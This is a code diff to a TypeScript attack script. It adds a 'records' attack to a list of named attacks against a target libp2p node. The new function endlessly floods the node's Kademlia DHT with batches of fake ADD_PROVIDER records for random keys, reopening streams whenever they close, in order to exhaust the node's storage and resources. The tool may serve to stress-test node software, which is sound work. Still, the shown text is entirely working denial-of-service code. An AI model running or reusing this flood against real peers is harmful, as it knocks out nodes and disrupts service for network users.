@@ -175,7 +175,34 @@ async function gossip(): Promise<void> {
   })
 }
 
-const ATTACKS: Record<string, () => Promise<void>> = { silent, dripping, noise, reset, gossip }
+/** Provider records of keys that nobody asks for, as many as one stream takes. */
+async function records(): Promise<void> {
+  const node = await stockNode()
+  const connection = await node.dial(multiaddr(target))
+  const self = node.peerId.toMultihash().bytes
+  const where = multiaddr('/ip4/127.0.0.1/tcp/9').bytes
+  const again = async (): Promise<void> => {
+    const stream = await connection.newStream('/swarm/kad/1.0.0')
+    stream.addEventListener('message', () => {})
+    while (stream.status === 'open' && stream.writeStatus === 'writable') {
+      const batch: Uint8Array[] = []
+      for (let i = 0; i < 500; i++) {
+        const key = concatBytes([Uint8Array.of(1, 0x55, 0x12, 32), randomBytes(32)])
+        const provider = field(9, concatBytes([field(1, self), field(2, where)]))
+        batch.push(field(1, concatBytes([Uint8Array.of(8, 2), field(2, key), provider])).subarray(1))
+      }
+      if (!stream.send(concatBytes(batch))) await drained(stream)
+      else await new Promise(setImmediate)
+    }
+  }
+  const forever = (): void =>
+    void again()
+      .catch(() => {})
+      .finally(() => setTimeout(forever, 20))
+  forever()
+}
+
+const ATTACKS: Record<string, () => Promise<void>> = { silent, dripping, noise, reset, gossip, records }
 const attack = ATTACKS[positionals[0] ?? '']
 if (attack === undefined) throw new RangeError(`no attack ${positionals[0]}`)
 await attack()
